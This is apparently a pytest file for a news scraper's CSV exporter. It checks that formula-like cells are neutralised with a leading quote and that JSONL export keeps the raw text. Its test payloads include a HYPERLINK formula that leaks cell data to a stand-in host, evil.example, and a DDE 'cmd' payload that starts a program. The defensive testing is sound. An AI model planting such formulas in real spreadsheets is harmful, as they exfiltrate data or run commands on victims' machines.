"""CSV export never hands a spreadsheet a live formula; JSONL keeps the text as the page had it."""

from __future__ import annotations

import csv
import json
from typing import TYPE_CHECKING

import pandas as pd
import pytest
from scrapy.exporters import JsonLinesItemExporter

from newsbot.exports.csv import ArticleCsvItemExporter
from newsbot.items import EXPORT_FIELDS
from tests.support import article

if TYPE_CHECKING:
    from pathlib import Path

    from newsbot.items import Article

#: Payloads from OWASP's CSV Injection page and the issue, and the tab/CR variants that are live
#: again once an importer drops the leading blank.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_articles() -> list[Article]:
    """One article per payload, in the title, the first author and the first tag."""
    return [
        article(
            url=f"https://example.com/{number}/",
            title=payload,
            authors=[payload, "Mei Tan"],
            tags=[payload, "=in the middle"],
            word_count=96,
            revision=2,
        )
        for number, payload in enumerate(PAYLOADS)
    ]


def export(exporter_cls: type, path: Path, items: list[Article]) -> None:
    """Write ``items`` to ``path`` as the feed exporter does (project field order, UTF-8)."""
    with path.open("wb") as file:
        exporter = exporter_cls(file, fields_to_export=list(EXPORT_FIELDS), encoding="utf-8")
        exporter.start_exporting()
        for item in items:
            exporter.export_item(item)
        exporter.finish_exporting()


@pytest.fixture
def csv_path(tmp_path: Path) -> Path:
    path = tmp_path / "articles.csv"
    export(ArticleCsvItemExporter, path, hostile_articles())
    return path


def test_no_csv_cell_starts_like_a_formula(csv_path: Path) -> None:
    with csv_path.open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert cells
    assert [cell for cell in cells if cell.lstrip().startswith(LIVE_STARTS)] == []


def test_formula_cells_keep_their_text_behind_a_quote(csv_path: Path) -> None:
    with csv_path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["title"] for row in rows] == [f"'{payload}" for payload in PAYLOADS]
    assert [row["authors"] for row in rows] == [f"'{payload}; Mei Tan" for payload in PAYLOADS]
    # Only a cell's start is evaluated: a formula-like item later in a list stays as it was.
    assert {row["tags"].split("; ")[1] for row in rows} == {"=in the middle"}


def test_pandas_reads_numbers_as_numbers_and_no_live_formula(csv_path: Path) -> None:
    frame = pd.read_csv(csv_path, keep_default_na=False)
    assert frame["word_count"].tolist() == [96] * len(PAYLOADS)
    assert frame["revision"].tolist() == [2] * len(PAYLOADS)
    text = frame.select_dtypes(exclude="number").to_numpy().ravel().tolist()
    assert [cell for cell in text if str(cell).lstrip().startswith(LIVE_STARTS)] == []


def test_ordinary_cells_are_untouched(tmp_path: Path) -> None:
    path = tmp_path / "plain.csv"
    export(ArticleCsvItemExporter, path, [article(title="Café – 3 + 4 = 7", tags=["a", "b"])])
    with path.open(newline="", encoding="utf-8") as file:
        row = next(csv.DictReader(file))
    assert (row["title"], row["tags"], row["url"]) == (
        "Café – 3 + 4 = 7",
        "a; b",
        "https://example.com/2026/11/03/ferries/",
    )


def test_jsonl_keeps_the_raw_text(tmp_path: Path) -> None:
    path = tmp_path / "articles.jsonl"
    export(JsonLinesItemExporter, path, hostile_articles())
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [record["title"] for record in records] == PAYLOADS
    assert [record["authors"][0] for record in records] == PAYLOADS
    assert [record["tags"][0] for record in records] == PAYLOADS
